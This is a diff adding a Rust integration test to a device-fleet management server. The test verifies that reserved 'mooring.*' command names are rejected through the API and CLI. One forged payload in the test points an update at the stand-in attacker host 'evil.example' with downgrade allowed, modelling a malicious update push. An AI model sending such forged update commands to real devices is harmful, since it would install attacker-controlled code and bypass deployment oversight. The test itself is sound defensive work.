@@ -567,3 +567,57 @@ async fn deployments_are_bounded_and_deleted_only_once_over_which_frees_the_arti
         .await;
     assert_eq!(status, 404);
 }
+
+/// `mooring.*` command names are the server's own: a client cannot send `mooring.update` (or
+/// `mooring.cert.rotate`) by name through the generic command API, the fleet command API or
+/// the CLI, which would push an update with no deployment behind it (any URL, downgrade
+/// allowed). Updates go through deployments only.
+#[tokio::test]
+async fn the_servers_own_command_names_cannot_be_sent_by_name() {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let server = Server::start(&tmp.path().join("data"));
+    server.create_device("d1", tmp.path());
+    let forged = json!({
+        "name": "mooring.update",
+        "params": {"v": 1, "deployment_id": "dep_x", "allow_downgrade": true,
+                   "link": {"url": "http://evil.example/x", "token": "t", "expires_at": 1}},
+    });
+    let (status, e) = server
+        .api("POST", "/api/v1/devices/d1/commands", Some(forged))
+        .await;
+    assert_eq!(
+        (status, e["error"]["code"].as_str()),
+        (400, Some("reserved_command_name")),
+        "{e}"
+    );
+    for name in ["mooring.update.cancel", "mooring.cert.rotate"] {
+        let (status, e) = server
+            .api(
+                "POST",
+                "/api/v1/commands",
+                Some(json!({"selector": "id:d1", "name": name})),
+            )
+            .await;
+        assert_eq!(
+            (status, e["error"]["code"].as_str()),
+            (400, Some("reserved_command_name")),
+            "{name}: {e}"
+        );
+    }
+    let out = server.cli(&["command", "send", "--to", "id:d1", "mooring.update"]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("reserved_command_name"), "{err}");
+    // Nothing was created.
+    let (_, list) = server.api("GET", "/api/v1/devices/d1/commands", None).await;
+    assert_eq!(list["commands"].as_array().map(Vec::len), Some(0), "{list}");
+    // Other names with a dot still work.
+    let (status, _) = server
+        .api(
+            "POST",
+            "/api/v1/devices/d1/commands",
+            Some(json!({"name": "app.reboot"})),
+        )
+        .await;
+    assert_eq!(status, 202);
+}
